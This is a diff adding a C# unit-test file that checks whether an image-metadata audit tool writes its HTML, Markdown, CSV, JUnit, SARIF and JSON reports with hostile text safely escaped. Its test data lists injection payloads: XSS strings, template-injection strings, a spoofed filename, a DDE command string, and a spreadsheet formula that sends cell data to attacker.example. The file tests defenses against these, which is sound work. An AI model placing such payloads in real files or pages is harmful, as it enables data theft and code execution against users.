@@ -1,0 +1,336 @@
+using System.Text;
+using System.Text.Json;
+using System.Text.Json.Serialization;
+using System.Text.RegularExpressions;
+using System.Xml.Linq;
+using NJsonSchema;
+
+namespace ImageKit.Metadata.Tests.Reporting;
+
+/// <summary>Each format is read back by something that is not ours, and hostile text stays text in all of them.</summary>
+public sealed class ReportTests : IDisposable
+{
+    private static readonly JsonSchema Sarif = LoadSchema();
+    private static readonly JsonSerializerOptions Readable = new(JsonSerializerDefaults.Web) { Converters = { new JsonStringEnumConverter() } };
+
+    private readonly string _folder = Directory.CreateTempSubdirectory("report").FullName;
+
+    /// <summary>Strings that break careless writers.</summary>
+    public static TheoryData<string> HostileTexts { get; } =
+    [
+        "<script>alert(1)</script>",
+        "\"><img src=x onerror=alert(1)>",
+        "' onmouseover='alert(1)",
+        "javascript:alert(1)",
+        "photo\u202Egpj.exe",
+        "red \u001b[31mtext\u0007 and a NUL\0 inside",
+        "line one\r\nline two\ttab",
+        "=HYPERLINK(\"http://attacker.example/?q=\"&A1,\"open\")",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1", "-1", "\t=1",
+        "a | b ` c ``` d * _ [x](javascript:alert(1)) # <b> @everyone",
+        "]]> --> <!-- ' \" & \u2028 \ud83d\udcf7",
+        "half \ud83d of a pair, and the other \udcf7",
+        "\uFFFE\uFFFF\uFEFF",
+        "{{constructor.constructor('alert(1)')()}} ${alert(1)} </style><script>",
+        "",
+    ];
+
+    public void Dispose() => Directory.Delete(_folder, recursive: true);
+
+    [Theory]
+    [MemberData(nameof(HostileTexts))]
+    public void Hostile_text_stays_text_in_every_format(string text)
+    {
+        AuditFinding[] findings =
+        [
+            Hostile(text, text, AuditSeverity.Error),
+            Hostile(text, "https://ik.imagekit.io/demo/" + text, AuditSeverity.Warning),
+            Hostile(text, null, AuditSeverity.Information),
+            new() { RuleName = "Unreachable", Severity = AuditSeverity.Error, Url = text, Message = text },
+            new() { RuleName = "NearDuplicate", Url = text, Message = text, Evidence = { ["Original"] = text, ["Distance"] = 3L } },
+        ];
+        AuditFinding accepted = Hostile(text, text, AuditSeverity.Error);
+        accepted.AcceptedReason = text;
+
+        string html = Write(AuditReportFormat.Html, [.. findings, accepted]);
+        Assert.Equal(1, Regex.Count(html, "<script"));
+        Assert.Equal(1, Regex.Count(html, "<style"));
+        Assert.DoesNotMatch("""<(?!/?(?:html|head|meta|title|link|style|script|body|svg|defs|symbol|path|use|rect|a|div|header|h1|h2|h3|p|nav|ul|li|main|section|dl|dt|dd|span|table|caption|thead|tbody|tr|th|td|time|footer|article|bdi|img|label|input|select|option|fieldset|legend|output|button|details|summary|code|br)[\s>/]|!DOCTYPE)""", Stripped(html));
+        Assert.DoesNotMatch("""\s(?:on\w+|style)\s*=\s*["']""", Stripped(html).Replace("&#39; onmouseover=&#39;", "", StringComparison.Ordinal));
+        Assert.DoesNotMatch("""(?:href|src)="(?!https?:|#|data:image/svg)""", html);
+        IsPrintable(html);
+
+        string markdown = Write(AuditReportFormat.Markdown, findings);
+        Assert.All(markdown.Split('\n'), line => Assert.True(line.StartsWith('|') ? line.Count(c => c == '|') is 4 or 6 : !line.Contains('|', StringComparison.Ordinal), line));
+        Assert.DoesNotMatch("<(?!/?sub>)", markdown);
+        Assert.DoesNotContain('`', markdown);
+        Assert.DoesNotContain('@', markdown);
+        Assert.DoesNotContain("](", markdown, StringComparison.Ordinal);
+        IsPrintable(markdown);
+
+        string csv = Write(AuditReportFormat.Csv, findings);
+        List<string[]> rows = ReadCsv(csv);
+        Assert.Equal(findings.Length + 1, rows.Count);
+        Assert.All(rows, row => Assert.Equal(9, row.Length));
+        Assert.All(rows.SelectMany(row => row), cell => Assert.DoesNotMatch("^[=+\\-@\t\r]", cell));
+        IsPrintable(csv.Replace("\r\n", "\n", StringComparison.Ordinal));
+
+        var junit = XDocument.Parse(Write(AuditReportFormat.JUnit, [.. findings, accepted]));
+        Assert.Equal(6 + 16 - 1 - 2, junit.Descendants("testcase").Count());
+        Assert.Equal(ReportText.Printable(text), junit.Descendants("failure").First().Attribute("message")!.Value);
+
+        string sarif = Write(AuditReportFormat.Sarif, [.. findings, accepted]);
+        IsValidSarif(sarif);
+        using var parsed = JsonDocument.Parse(sarif);
+        JsonElement result = parsed.RootElement.GetProperty("runs")[0].GetProperty("results")[0];
+        Assert.True(Uri.TryCreate(result.GetProperty("locations")[0].GetProperty("physicalLocation").GetProperty("artifactLocation").GetProperty("uri").GetString(), UriKind.Relative, out _));
+
+        using var json = JsonDocument.Parse(Write(AuditReportFormat.Json, findings));
+        Assert.Equal(ReportText.WellFormed(text), json.RootElement.GetProperty("findings")[0].GetProperty("message").GetString());
+
+        using var baseline = JsonDocument.Parse(Write(AuditReportFormat.Baseline, findings));
+        Assert.Equal(findings.Length, baseline.RootElement.GetProperty("accepted").GetArrayLength());
+    }
+
+    [Fact]
+    public void Json_is_read_back_as_findings()
+    {
+        AuditFinding finding = Sample();
+        using var document = JsonDocument.Parse(Write(AuditReportFormat.Json, finding));
+        AuditFinding again = document.RootElement.GetProperty("findings")[0].Deserialize<AuditFinding>(Readable)!;
+        Assert.Equal((finding.RuleName, finding.Severity, finding.Url, finding.FileId, finding.Message, finding.Recommendation, finding.SavingBytes),
+            (again.RuleName, again.Severity, again.Url, again.FileId, again.Message, again.Recommendation, again.SavingBytes));
+        Assert.Equal(["Latitude", "Tags"], again.Evidence.Keys);
+        Assert.Equal(52.37, ((JsonElement)again.Evidence["Latitude"]!).GetDouble());
+        Assert.Equal(1, document.RootElement.GetProperty("summary").GetProperty("warnings").GetInt32());
+    }
+
+    [Fact]
+    public void Csv_is_read_back()
+    {
+        List<string[]> rows = ReadCsv(Write(AuditReportFormat.Csv, Sample()));
+        Assert.Equal(["RuleName", "Severity", "Url", "FileId", "Message", "Recommendation", "SavingBytes", "AcceptedReason", "Evidence"], rows[0]);
+        Assert.Equal(["GpsLocation", "Warning", "https://ik.imagekit.io/demo/a.jpg?updatedAt=1", "abc", "A, \"place\"", "Remove it.", "1234", "", "{\"Latitude\":52.37,\"Tags\":[\"a\",\"b\"]}"], rows[1]);
+    }
+
+    [Fact]
+    public void Sarif_declares_every_rule_suppresses_what_was_accepted_and_keeps_its_fingerprints()
+    {
+        AuditFinding first = Sample();
+        AuditFinding later = Sample();
+        later.Url = later.Url!.Replace("updatedAt=1", "updatedAt=2", StringComparison.Ordinal);
+        later.Message = "another figure";
+        later.AcceptedReason = "a park";
+        AuditFinding own = Sample();
+        own.RuleName = "MyOwn";
+        AuditFinding ownSecond = Sample();
+        ownSecond.RuleName = "MyOwn";
+        ownSecond.Evidence["Number"] = 2L;
+        string text = Write(AuditReportFormat.Sarif, first, later, own, ownSecond);
+        IsValidSarif(text);
+
+        using var sarif = JsonDocument.Parse(text);
+        JsonElement run = sarif.RootElement.GetProperty("runs")[0];
+        string[] rules = [.. run.GetProperty("tool").GetProperty("driver").GetProperty("rules").EnumerateArray().Select(rule => rule.GetProperty("id").GetString()!)];
+        Assert.Equal([.. new Auditor().Rules.Select(rule => rule.Name), "MyOwn"], rules);
+        JsonElement[] results = [.. run.GetProperty("results").EnumerateArray()];
+        string[] prints = [.. results.Select(result => result.GetProperty("partialFingerprints").GetProperty("primaryLocationLineHash").GetString()!)];
+        Assert.Equal(prints[0], prints[1]);
+        Assert.Equal(3, prints.Distinct().Count());
+        Assert.Empty(results[0].GetProperty("suppressions").EnumerateArray());
+        Assert.Equal("a park", results[1].GetProperty("suppressions")[0].GetProperty("justification").GetString());
+        Assert.Equal("ik.imagekit.io/demo/a.jpg?updatedAt=1", results[0].GetProperty("locations")[0].GetProperty("physicalLocation").GetProperty("artifactLocation").GetProperty("uri").GetString());
+    }
+
+    [Fact]
+    public void The_schema_refuses_what_is_wrong() =>
+        Assert.True(Sarif.Validate("""{ "version": "2.1.0", "runs": [ { "results": [ { "level": "bad" } ] } ] }""").Count > 0);
+
+    [Fact]
+    public void A_baseline_accepts_what_it_was_written_from()
+    {
+        string path = Path.Combine(_folder, "b.json");
+        WriteTo(path, AuditReportFormat.Baseline, new AuditReportOptions { Reason = "known", ExpiresOn = new DateTime(2030, 1, 2, 0, 0, 0, DateTimeKind.Utc) }, Sample());
+        AuditFinding finding = Sample();
+        Assert.True(AuditBaseline.Read(path, new DateTime(2030, 1, 2, 0, 0, 0, DateTimeKind.Utc)).Accepts(finding));
+        Assert.Equal("known", finding.AcceptedReason);
+        Assert.False(AuditBaseline.Read(path, new DateTime(2030, 1, 3, 0, 0, 0, DateTimeKind.Utc)).Accepts(Sample()));
+    }
+
+    [Fact]
+    public void Totals_count_the_largest_saving_of_a_picture_once()
+    {
+        FindingTotals totals = new();
+        totals.Add(new AuditFinding { RuleName = "A", Url = "u", SavingBytes = 10 });
+        totals.Add(new AuditFinding { RuleName = "B", Url = "u", SavingBytes = 30 });
+        totals.Add(new AuditFinding { RuleName = "C", Url = "u", SavingBytes = 20 });
+        totals.Add(new AuditFinding { RuleName = "A", Url = "v", SavingBytes = 5 });
+        totals.Add(new AuditFinding { RuleName = "A", Url = "w", SavingBytes = 5, AcceptedReason = "yes" });
+        Assert.Equal((35, 4, 1), (totals.SavingBytes, totals.Count, totals.AcceptedCount));
+    }
+
+    [Fact]
+    public void The_page_shows_the_first_of_each_rule_and_says_how_many_more()
+    {
+        AuditFinding[] findings = [.. Enumerable.Range(0, 500).Select(i => new AuditFinding { RuleName = i % 5 == 0 ? "Few" : "Many", Url = $"https://ik.imagekit.io/demo/{i}.jpg", Message = "x" })];
+        string html = Write(AuditReportFormat.Html, findings);
+        Assert.Equal(200, Regex.Count(html, "data-rule="));
+        Assert.Contains("300 more (300 of Many) are in the CSV or JSON report", html, StringComparison.Ordinal);
+        Assert.Contains(">400</td>", html, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Thumbnails_are_asked_of_the_library_only_and_can_be_off()
+    {
+        string html = Write(AuditReportFormat.Html, new AuditFinding { RuleName = "A", Url = "https://ik.imagekit.io/demo/a.jpg?tr=w-9", Message = "x" });
+        Assert.Contains("src=\"https://ik.imagekit.io/demo/a.jpg?tr=w-9:w-160,h-160,c-at_max\"", html, StringComparison.Ordinal);
+        Assert.Contains("img-src data: https://ik.imagekit.io; base-uri 'none'", html, StringComparison.Ordinal);
+        Assert.Contains("loading=\"lazy\"", html, StringComparison.Ordinal);
+
+        string path = Path.Combine(_folder, "none.html");
+        string without = WriteTo(path, AuditReportFormat.Html, new AuditReportOptions { NoThumbnail = true }, new AuditFinding { RuleName = "A", Url = "https://ik.imagekit.io/demo/a.jpg", Message = "x" });
+        Assert.DoesNotContain("<img", without, StringComparison.Ordinal);
+        Assert.Contains("img-src data:; base-uri", without, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void A_report_is_whole_or_not_there()
+    {
+        string path = Path.Combine(_folder, "r.json");
+        File.WriteAllText(path, "old");
+        using (AuditReport report = new(path, AuditReportFormat.Json))
+        {
+            report.Add(Sample());
+            Assert.Equal("old", File.ReadAllText(path));
+        }
+
+        Assert.Equal("old", File.ReadAllText(path));
+        Assert.Single(Directory.GetFiles(_folder));
+        WriteTo(path, AuditReportFormat.Json, new AuditReportOptions(), Sample());
+        Assert.StartsWith("{", File.ReadAllText(path), StringComparison.Ordinal);
+        Assert.Single(Directory.GetFiles(_folder));
+    }
+
+    [Theory]
+    [InlineData("a.HTML", AuditReportFormat.Html)]
+    [InlineData("a.sarif", AuditReportFormat.Sarif)]
+    [InlineData("a.sarif.json", AuditReportFormat.Sarif)]
+    [InlineData("a.baseline.json", AuditReportFormat.Baseline)]
+    [InlineData("a.json", AuditReportFormat.Json)]
+    [InlineData("a.csv", AuditReportFormat.Csv)]
+    [InlineData("a.md", AuditReportFormat.Markdown)]
+    [InlineData("a.xml", AuditReportFormat.JUnit)]
+    [InlineData("a.txt", null)]
+    [InlineData("json", null)]
+    public void The_ending_tells_the_format(string name, AuditReportFormat? format) => Assert.Equal(format, AuditReport.FormatOf(name));
+
+    private static AuditFinding Sample() => new()
+    {
+        RuleName = "GpsLocation",
+        Severity = AuditSeverity.Warning,
+        Url = "https://ik.imagekit.io/demo/a.jpg?updatedAt=1",
+        FileId = "abc",
+        Message = "A, \"place\"",
+        Recommendation = "Remove it.",
+        SavingBytes = 1234,
+        Evidence = { ["Latitude"] = 52.37, ["Tags"] = new object?[] { "a", "b" } },
+    };
+
+    private static AuditFinding Hostile(string text, string? url, AuditSeverity severity) => new()
+    {
+        RuleName = "R" + text,
+        Severity = severity,
+        Url = url,
+        FileId = text,
+        Message = text,
+        Recommendation = text,
+        Evidence = { ["k" + text] = text, ["list"] = new object?[] { text, null, double.NaN, 1L } },
+    };
+
+    private static void IsValidSarif(string text)
+    {
+        Assert.Empty(Sarif.Validate(text).Select(error => error.ToString()));
+    }
+
+    private static JsonSchema LoadSchema()
+    {
+        using StreamReader reader = new(typeof(ReportTests).Assembly.GetManifestResourceStream("sarif-2.1.0.json")!);
+        return JsonSchema.FromJsonAsync(reader.ReadToEnd()).GetAwaiter().GetResult();
+    }
+
+    private static void IsPrintable(string text) =>
+        Assert.DoesNotMatch("[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069\u200E\u200F\u2028\u2029\uD800-\uDBFF](?![\uDC00-\uDFFF])", text);
+
+    /// <summary>The page without its own style and script.</summary>
+    private static string Stripped(string html) => Regex.Replace(html, "(?s)<(style|script)>.*?</\\1>", "");
+
+    /// <summary>RFC 4180, to the letter.</summary>
+    private static List<string[]> ReadCsv(string text)
+    {
+        List<string[]> rows = [];
+        List<string> row = [];
+        StringBuilder cell = new();
+        bool quoted = false;
+        for (int i = text[0] == '\uFEFF' ? 1 : 0; i < text.Length; i++)
+        {
+            char c = text[i];
+            if (quoted)
+            {
+                if (c != '"')
+                {
+                    cell.Append(c);
+                }
+                else if (i + 1 < text.Length && text[i + 1] == '"')
+                {
+                    cell.Append('"');
+                    i++;
+                }
+                else
+                {
+                    quoted = false;
+                    Assert.True(text[i + 1] is ',' or '\r');
+                }
+            }
+            else if (c == '"')
+            {
+                Assert.Equal(0, cell.Length);
+                quoted = true;
+            }
+            else if (c is ',' or '\r')
+            {
+                row.Add(cell.ToString());
+                cell.Clear();
+                if (c == '\r')
+                {
+                    Assert.Equal('\n', text[++i]);
+                    rows.Add([.. row]);
+                    row.Clear();
+                }
+            }
+            else
+            {
+                cell.Append(c);
+            }
+        }
+
+        Assert.Empty(row);
+        return rows;
+    }
+
+    private string Write(AuditReportFormat format, params AuditFinding[] findings) =>
+        WriteTo(Path.Combine(_folder, "report." + format), format, new AuditReportOptions { Rules = new Auditor().Rules }, findings);
+
+    private static string WriteTo(string path, AuditReportFormat format, AuditReportOptions options, params AuditFinding[] findings)
+    {
+        using AuditReport report = new(path, format, options);
+        report.Add(new ImageMetadata { Format = "jpg", Size = 1000, Width = 10, Height = 10 });
+        foreach (AuditFinding finding in findings)
+        {
+            report.Add(finding);
+        }
+
+        report.Complete();
+        return new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(File.ReadAllBytes(path));
+    }
+}
